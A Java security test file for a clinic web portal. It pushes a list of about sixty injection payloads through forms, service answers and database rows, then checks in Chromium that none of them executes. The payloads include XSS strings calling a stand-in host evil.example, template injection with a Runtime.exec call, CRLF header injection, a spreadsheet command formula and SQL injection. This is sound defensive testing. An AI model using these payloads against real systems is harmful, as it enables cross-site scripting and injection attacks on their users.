package clinic.portal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.request;

import clinic.contracts.Role;
import clinic.portal.StubServices.Answer;
import clinic.portal.Surroundings.SignedIn;
import clinic.portal.TheClinic.Journey;
import clinic.portal.casefile.Searches;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Browser.NewContextOptions;
import com.microsoft.playwright.BrowserType.LaunchOptions;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Playwright;
import com.microsoft.playwright.Playwright.CreateOptions;
import com.microsoft.playwright.Request;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.Route.FulfillOptions;
import com.microsoft.playwright.options.Media;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpMethod;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/// Whatever somebody typed is text on every page that shows it: in Chromium, under the portal's own content security
/// policy, no script runs, nothing is asked of another host, no dialog opens, and the policy has nothing to report.
@PortalTest
class HostileContentTests {

    /// Each calls `canary`, opens a dialog, asks `evil.example` for something, or breaks out of where it stands.
    private static final List<String> PAYLOADS = List.of(
            "<script>canary()</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<script type=module>import '//evil.example/m.js'</script>",
            "<img src=x onerror=canary()>",
            "<img src=//evil.example/pixel.gif>",
            "<img src=\"https://evil.example/a.png\" srcset=\"//evil.example/b.png 2x\">",
            "<svg onload=canary()>",
            "<svg><script>canary()</script></svg>",
            "<svg><animate onbegin=canary() attributeName=x dur=1s>",
            "<svg><use href=\"//evil.example/x.svg#a\"/></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
            "<iframe src=javascript:canary()></iframe>",
            "<iframe srcdoc=\"<script>parent.canary()</script>\"></iframe>",
            "<object data=//evil.example/o></object><embed src=//evil.example/e>",
            "<a href=javascript:canary()>follow me</a>",
            "javascript:canary()",
            "JaVaScRiPt:/*--></title></style></textarea></script><svg/onload=canary()>//",
            "data:text/html,<script>canary()</script>",
            "<details open ontoggle=canary()>x</details>",
            "<video><source onerror=canary()></video><audio src=x onerror=canary()>",
            "<body onload=canary()>",
            "<input autofocus onfocus=canary()>",
            "<select autofocus onfocus=canary()>",
            "<marquee onstart=canary()>x</marquee>",
            "<form action=//evil.example><button>Save</button></form>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/i.css'; *{background:url(//evil.example/bg)}</style>",
            "<div style=\"background:url(//evil.example/s);position:fixed;inset:0\">x</div>",
            "\"><script>canary()</script>",
            "'><img src=x onerror=canary()>",
            "\" onmouseover=\"canary()\" autofocus onfocus=\"canary()\" x=\"",
            "' onfocus='canary()' autofocus x='",
            "</textarea><script>canary()</script>",
            "</title><script>canary()</script>",
            "</option></select><img src=x onerror=canary()>",
            "<!--><img src=x onerror=canary()>-->",
            "<![CDATA[<script>canary()</script>]]>",
            "${7*7} #{7*7} *{7*7} ~{7*7} @{7*7}",
            "[[${7*7}]] [(${7*7})] __${7*7}__::.x",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{7*7}} {{constructor.constructor('canary()')()}} <%= 7*7 %>",
            "<div hx-get=//evil.example/h hx-trigger=load>x</div>",
            "<div data-hx-get=//evil.example/d data-hx-trigger=load>x</div>",
            "<div hx-on::load=canary() hx-on:click=canary()>x</div>",
            "<div hx-get=/cases hx-trigger=load hx-target=body>x</div>",
            "\" hx-get=\"//evil.example/q\" hx-trigger=\"load\" x=\"",
            "first\r\nSet-Cookie: canary=1\r\n\r\n<script>canary()</script>",
            "[follow](javascript:canary()) ![x](//evil.example/md.png) **bold**",
            "=HYPERLINK(\"//evil.example\",\"x\") @SUM(1+1)*cmd|' /C calc'!A0",
            "'; drop table case_row; -- \" or 1=1",
            "right\u202Etfel\u202C and isolate \u2066x\u2069",
            "zero\u200Bwidth\u200Djoiner\uFEFF and \u0430dmin in Cyrillic",
            "<\u0000script>canary()</script>",
            "<scr<script>ipt>canary()</scr</script>ipt>",
            "%3Cscript%3Ecanary()%3C/script%3E &lt;script&gt;canary()&lt;/script&gt; &#60;script&#62;",
            "\uFF1Cscript\uFF1Ecanary()\uFF1C/script\uFF1E",
            "<template><script>canary()</script></template><noscript><img src=x onerror=canary()></noscript>",
            "long ".repeat(300) + "<script>canary()</script>");

    private static final int IN_ONE_FIELD = 15;

    /// Where the services take text that a person types, to what the portal calls it: in a service's answer, in its own
    /// read model, or in a form.
    private static final Map<String, List<String>> SHOWN = Map.of(
            "PatientRequest.familyName", List.of("patient_card.family_name", "form.familyName"),
            "PatientRequest.givenName", List.of("patient_card.given_name", "form.givenName"),
            "PatientRequest.email", List.of("form.email"),
            "PatientRequest.phone", List.of("form.phone"),
            "PainHistoryRequest.activity", List.of("activity", "form.activity"),
            "PainHistoryRequest.medicalHistory", List.of("medicalHistory", "form.medicalHistory"),
            "PainHistoryRequest.narrative", List.of("narrative", "form.narrative"),
            "FindingsRequest.findings", List.of("findings", "form.findings"),
            "FindingsRequest.examination", List.of("examination", "form.examination"),
            "DiagnosisRequest.note", List.of("diagnosisNote", "form.note"));

    private static final Map<String, List<String>> SHOWN_TOO = Map.of(
            "TakenMedication.name", List.of("name"),
            "TakenMedication.dose", List.of("dose"),
            "ItemRequest.instructions", List.of("instructions", "form.instructions"),
            "ResolutionRequest.note", List.of("form.note"),
            "BreakGlassRequest.explanation", List.of("form.explanation", "reason"),
            "DisclosureRequest.recipient", List.of("recipient", "form.recipient"),
            "DisclosureRequest.address", List.of("address", "form.address"),
            "DisclosureRequest.description", List.of("description", "form.description"),
            "DisclosureRequest.purpose", List.of("purpose", "form.purpose"),
            // a code, of which the table of codes knows the words
            "DiagnosisRequest.codes", List.of("form.codes"));

    /// Never on a page: the portal offers the languages that it speaks.
    private static final Set<String> SHOWN_NOWHERE = Set.of(
            "PatientRequest.language",
            // what is looked for, and where the page before ended
            "PatientSearchRequest.q",
            "PatientSearchRequest.cursor",
            "CodeSearchRequest.q");

    /// Also what staff, not patients, are called, and what services answer in words of their own.
    private static final Set<String> IN_ANSWERS = Set.of(
            "activity",
            "medicalHistory",
            "narrative",
            "name",
            "dose",
            "findings",
            "examination",
            "diagnosisNote",
            "instructions",
            "by",
            "startedByName",
            "title",
            "notice",
            "description",
            "recipient",
            "address",
            "purpose",
            "recorderName",
            "actorName",
            "detail");

    /// A code everywhere but in the trail, where it may be what somebody said who broke the glass.
    private static final String REASON = "reason";

    private static final Map<String, String> IN_THE_READ_MODEL = Map.of(
            "patient_card.family_name", "patient_id",
            "patient_card.given_name", "patient_id",
            "site_card.name", "site_id",
            "clinician_card.name", "clinician_id");

    private static final Pattern TEXT_COMPONENT = Pattern.compile("\\bString>?\\s+(\\w+)");
    private static final Pattern REQUEST =
            Pattern.compile("record (\\w+Request|OpenCase|TakenMedication)\\(((?:[^()]|\\([^()]*\\))*)\\)");
    private static final Pattern SPACE = Pattern.compile("[\\s\\u0000\\uFFFD]+");

    private static Playwright playwright;
    private static Browser browser;

    @Autowired
    private Searches searches;

    @Autowired
    private TheClinic clinic;

    @Autowired
    private SignedIn signedIn;

    @Autowired
    private MockMvc mvc;

    @Autowired
    private JdbcClient jdbc;

    private final List<String> trouble = new CopyOnWriteArrayList<>();
    private final Set<String> seen = new TreeSet<>();
    private final Map<String, String> typed = new HashMap<>();
    private int views;

    @BeforeAll
    static void openTheBrowser() {
        playwright = Playwright.create(new CreateOptions().setEnv(Map.of("PLAYWRIGHT_SKIP_BROWSER_DOWNLOAD", "1")));
        browser = playwright
                .chromium()
                .launch(new LaunchOptions()
                        .setExecutablePath(Stream.of(
                                        "/usr/bin/chromium",
                                        "/usr/bin/chromium-browser",
                                        "/usr/bin/google-chrome",
                                        "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome")
                                .map(Path::of)
                                .filter(Files::isExecutable)
                                .findFirst()
                                .orElseThrow())
                        .setArgs(List.of("--no-sandbox", "--disable-gpu", "--disable-background-networking")));
    }

    @AfterAll
    static void closeTheBrowser() {
        browser.close();
        playwright.close();
    }

    @BeforeEach
    void services() {
        StubServices.get().reset();
    }

    /// Other tests look at the same portal, and take such words for what they look for.
    @AfterEach
    void asBefore() {
        IN_THE_READ_MODEL.keySet().forEach(column -> {
            var words = column.split("\\.");
            jdbc.sql("update %s set %s = 'Harmless' where %s like :text".formatted(words[0], words[1], words[1]))
                    .param("text", column + " %")
                    .update();
        });
        jdbc.sql("delete from draft").update();
    }

    @Test
    void isTextWhereverItIsShown() throws Exception {
        for (var first = 0; first < PAYLOADS.size(); first += IN_ONE_FIELD) {
            var hostile = String.join(" ", PAYLOADS.subList(first, Math.min(first + IN_ONE_FIELD, PAYLOADS.size())));
            var journey = clinic.journey().tellEverything();
            answers(journey, hostile);
            readModel(journey, hostile);
            var session = signedIn.as(Role.PHYSICIAN, journey.siteId);
            try (var page = page(session)) {
                var addresses = new ArrayList<>(List.of(
                        "/cases/" + journey.caseId,
                        "/cases?site=" + journey.siteId,
                        "/cases/" + journey.caseId + "/slots",
                        "/intake?search=" + searches.keep(session, "nunez")));
                for (var address : addresses) {
                    look(page, address);
                }
                page.emulateMedia(new Page.EmulateMediaOptions().setMedia(Media.PRINT));
                look(page, "/cases/" + journey.caseId);
                typesIntoEveryForm(page, "/cases/" + journey.caseId, hostile);
            }
            try (var page = page(signedIn.as(Role.FRONT_DESK, journey.siteId))) {
                typesIntoEveryForm(page, "/intake", hostile);
            }
            // nobody's visit brings the two together, so the chart opens in an emergency only
            var stranger = clinic.journey().tellTheCaseAlone();
            try (var page = page(signedIn.as(Role.PHYSICIAN, stranger.siteId))) {
                typesIntoEveryForm(page, "/cases/" + stranger.caseId, hostile);
            }
            answers(journey, hostile);
            try (var page = page(signedIn.as(Role.PRIVACY_OFFICER, journey.siteId))) {
                for (var address : List.of(
                        "/privacy/unusual",
                        "/privacy/patients/" + journey.patientId,
                        "/privacy/people/" + journey.clinicianSubject)) {
                    look(page, address);
                }
                typesIntoEveryForm(page, "/privacy/patients/" + journey.patientId + "/disclosures", hostile);
                // too long to be kept, because what is kept there is never removed and other tests see it as well
                typesIntoEveryForm(page, "/privacy/unusual", hostile + " too long".repeat(200));
            }
        }

        var shownBy = new HashMap<>(SHOWN);
        shownBy.putAll(SHOWN_TOO);
        var fields = freeTextFields();
        System.out.printf(
                "hostile content: %d payloads in %d fields, %d views in Chromium, %d executions, dialogs, reports and"
                        + " foreign requests%n",
                PAYLOADS.size(), fields.size(), views, trouble.size());
        assertThat(trouble).isEmpty();
        assertThat(PAYLOADS).hasSizeGreaterThan(40);
        assertThat(fields)
                .as("a new field of text needs a place here")
                .allSatisfy(field -> assertThat(shownBy.containsKey(field) || SHOWN_NOWHERE.contains(field))
                        .as(field)
                        .isTrue());
        assertThat(seen)
                .as("shown as text")
                .containsAll(fields.stream()
                        .flatMap(field -> shownBy.getOrDefault(field, List.of()).stream())
                        .collect(Collectors.toSet()))
                .containsAll(IN_THE_READ_MODEL.keySet());
    }

    /// That a canary would sing: the same browser, with a page that has no policy and escapes nothing.
    @Test
    void wouldSeeWhatRuns() throws Exception {
        try (var page = browser.newContext().newPage()) {
            watch(page);
            page.route("**", route -> {
                if (route.request().url().contains("evil.example")) {
                    trouble.add("foreign");
                    route.abort();
                } else {
                    route.fulfill(new FulfillOptions()
                            .setContentType("text/html")
                            .setBody("<p>" + PAYLOADS.get(0) + PAYLOADS.get(3) + PAYLOADS.get(4)
                                    + "<script>alert(1)</script>"));
                }
            });
            page.navigate("http://localhost/");
            page.waitForTimeout(200);
        }
        assertThat(trouble).contains("canary", "dialog", "foreign");
    }

    private void look(Page page, String address) {
        page.navigate("http://localhost" + address);
        settled(page);
        collect(page, address);
    }

    private void collect(Page page, String where) {
        views++;
        @SuppressWarnings("unchecked")
        var texts = (List<String>) page.evaluate("""
            () => [document.body.textContent, document.title,
                ...[...document.querySelectorAll('input, textarea, option')].map(it => it.value),
                ...[...document.querySelectorAll('[aria-label], [title]')].map(
                    it => it.getAttribute('aria-label') + ' ' + it.title)]\
            """);
        var shown = plain(String.join(" | ", texts));
        typed.forEach((field, text) -> {
            if (shown.contains(plain(text))) {
                seen.add(field);
            }
        });
        var foreign = page.evaluate("""
            () => [...document.querySelectorAll('script, iframe, object, embed, base, form, link, img, a')]
                .map(it => it.src || it.href || it.action || it.data || '')
                .filter(it => typeof it === 'string' && (it.includes('evil.example') || it.startsWith('javascript')))\
            """);
        if (!((List<?>) foreign).isEmpty()) {
            trouble.add(where + " has elements that lead away: " + foreign);
        }
    }

    /// Family names are shown in capitals.
    private static String plain(String text) {
        return SPACE.matcher(text).replaceAll("").toUpperCase(Locale.ROOT);
    }

    /// Fills each form with the payloads, has it refused, and looks at what is typed again.
    private void typesIntoEveryForm(Page page, String address, String hostile) {
        page.emulateMedia(new Page.EmulateMediaOptions().setMedia(Media.SCREEN));
        StubServices.get()
                .when("intake", "POST|PUT", ".*", refused(hostile))
                .when("records", "POST|PUT", ".*", refused(hostile));
        page.navigate("http://localhost" + address);
        // by where they lead, since a form that was refused brings others with it
        @SuppressWarnings("unchecked")
        var actions = (List<String>) page.evaluate("() => [...new Set("
                + "[...document.querySelectorAll('form[method=post]')].map(it => it.getAttribute('action')))]");
        for (var action : actions) {
            page.navigate("http://localhost" + address);
            @SuppressWarnings("unchecked")
            var fields = (List<String>) page.evaluate("""
                    ([action, hostile]) => {
                        const form = [...document.querySelectorAll('form[method=post]')]
                            .find(it => it.getAttribute('action') === action);
                        if (!form) return [];
                        const filled = [];
                        for (const it of form.elements) {
                            if (it.tagName === 'TEXTAREA' || it.tagName === 'INPUT'
                                    && ['text', 'email', 'tel', 'search'].includes(it.type)) {
                                it.removeAttribute('maxlength');
                                it.value = 'form.' + it.name + ' ' + hostile;
                                filled.push(it.name);
                            }
                        }
                        return filled;
                    }\
                    """, List.of(action, hostile));
            if (!fields.isEmpty()) {
                fields.forEach(field -> typed.put("form." + field, "form." + field + " " + hostile));
                page.waitForNavigation(() -> page.evaluate(
                        "action => [...document.querySelectorAll('form[method=post]')]"
                                + ".find(it => it.getAttribute('action') === action).submit()",
                        action));
                settled(page);
                collect(page, address + ", form with " + fields);
            }
        }
    }

    private static Answer refused(String hostile) {
        var quoted = JsonMapper.shared().writeValueAsString("Refused: " + hostile);
        var text = quoted.substring(1, quoted.length() - 1);
        return Answer.problem(422, "invalid-patient", text, "[{\"field\":\"familyName\",\"message\":" + quoted + "}]");
    }

    /// What the services answer, with every text in it replaced.
    private void answers(Journey journey, String hostile) {
        var services = StubServices.get();
        services.reset();
        Examples.everything(services, journey);
        Map.of(
                        "/cases/[^/]+/triage", List.of("intake"),
                        "/cases/[^/]+/history", List.of("intake"),
                        "/cases/[^/]+/readiness", List.of("records"),
                        "/cases/[^/]+/consultations", List.of("records"),
                        "/cases/[^/]+/plan", List.of("records"),
                        "/patients/[^/]+/disclosures", List.of("records"))
                .forEach((path, from) -> answer(path, from, hostile, IN_ANSWERS));
        var inTheTrail = new HashSet<>(IN_ANSWERS);
        inTheTrail.add(REASON);
        Map.of(
                        "/audit\\?.*", List.of("intake", "scheduling", "records", "notification"),
                        "/unusual-access.*", List.of("records"))
                .forEach((path, from) -> answer(path, from, hostile, inTheTrail));
    }

    private void answer(String path, List<String> from, String hostile, Set<String> named) {
        var json = JsonMapper.shared().readTree(StubServices.get().example(path));
        replace(json, hostile, named);
        from.forEach(service -> StubServices.get().when(service, "GET", path, Answer.ok(json.toString())));
    }

    private void replace(JsonNode json, String hostile, Set<String> named) {
        if (json instanceof ArrayNode list) {
            list.forEach(it -> replace(it, hostile, named));
        } else if (json instanceof ObjectNode object) {
            for (var name : object.propertyNames().stream().toList()) {
                if (named.contains(name)) {
                    typed.put(name, "answer." + name + " " + hostile);
                    object.set(name, StringNode.valueOf("answer." + name + " " + hostile));
                } else {
                    replace(object.path(name), hostile, named);
                }
            }
        }
    }

    private void readModel(Journey journey, String hostile) {
        var ids = Map.of(
                "patient_id", journey.patientId,
                "site_id", journey.siteId,
                "clinician_id", journey.clinicianId);
        IN_THE_READ_MODEL.forEach((column, key) -> {
            var words = column.split("\\.");
            // a column cannot hold the character that PostgreSQL has no place for
            var text = column + " " + hostile.replace("\u0000", "");
            typed.put(column, text);
            var changed = jdbc.sql("update %s set %s = :text where %s = :id".formatted(words[0], words[1], key))
                    .param("text", text)
                    .param("id", ids.get(key))
                    .update();
            assertThat(changed).as(column).isEqualTo(1);
        });
    }

    private Page page(MockHttpSession session) {
        var page = browser.newContext(new NewContextOptions().setIgnoreHTTPSErrors(true))
                .newPage();
        watch(page);
        page.route("**", route -> answer(route, session));
        return page;
    }

    private void watch(Page page) {
        page.exposeFunction("canary", _ -> trouble.add("canary"));
        page.exposeFunction("reported", what -> trouble.add("policy: " + Arrays.toString(what)));
        page.addInitScript("document.addEventListener('securitypolicyviolation',"
                + " it => reported(it.violatedDirective + ' ' + it.blockedURI + ' ' + it.sample))");
        page.onDialog(dialog -> {
            trouble.add("dialog");
            dialog.dismiss();
        });
        page.onPopup(_ -> trouble.add("popup"));
    }

    /// The portal itself answers, with its own headers, so that its policy holds.
    private void answer(Route route, MockHttpSession session) {
        var asked = route.request();
        var uri = URI.create(asked.url().replace("|", "%7C"));
        if (!"localhost".equals(uri.getHost())) {
            trouble.add("foreign: " + asked.url());
            route.abort();
            return;
        }
        if (uri.getPath().equals("/live") || uri.getPath().endsWith("live-worker.js")) {
            route.abort();
            return;
        }
        try {
            var answer = ask(asked.method(), uri, asked, session);
            for (var next = answer.getRedirectedUrl(); next != null; next = answer.getRedirectedUrl()) {
                answer = ask("GET", uri.resolve(next.replaceFirst("#.*", "")), null, session);
            }
            var headers = new HashMap<String, String>();
            for (var name : answer.getHeaderNames()) {
                headers.put(name, String.join(", ", answer.getHeaders(name)));
            }
            route.fulfill(new FulfillOptions()
                    .setStatus(answer.getStatus())
                    .setHeaders(headers)
                    .setBodyBytes(answer.getContentAsByteArray()));
        } catch (Exception e) {
            trouble.add(asked.url() + ": " + e);
            route.abort();
        }
    }

    private MockHttpServletResponse ask(String method, URI uri, @Nullable Request asked, MockHttpSession session)
            throws Exception {
        var request = request(
                        HttpMethod.valueOf(method),
                        URI.create(uri.getRawPath() + (uri.getRawQuery() == null ? "" : "?" + uri.getRawQuery())))
                .session(session);
        if (asked != null) {
            asked.headers().forEach((name, value) -> {
                if (name.startsWith("hx-") || name.equals("accept") || name.equals("content-type")) {
                    request.header(name, value);
                }
            });
            var body = asked.postDataBuffer();
            if (body != null) {
                request.content(new String(body, StandardCharsets.UTF_8));
            }
        }
        return mvc.perform(request).andReturn().getResponse();
    }

    private static void settled(Page page) {
        page.waitForTimeout(60);
    }

    /// Every text that a service takes from a person, read from the sources of the services.
    private static Set<String> freeTextFields() throws Exception {
        var fields = new HashSet<String>();
        try (var files = Files.walk(Path.of(".."), 12)) {
            for (var file : files.filter(it -> it.toString().matches(".*-service/src/main/java/.*\\.java"))
                    .toList()) {
                REQUEST.matcher(Files.readString(file))
                        .results()
                        .forEach(record -> TEXT_COMPONENT
                                .matcher(record.group(2))
                                .results()
                                .forEach(component -> fields.add(record.group(1) + "." + component.group(1))));
            }
        }
        assertThat(fields).hasSizeGreaterThan(12);
        return fields;
    }
}
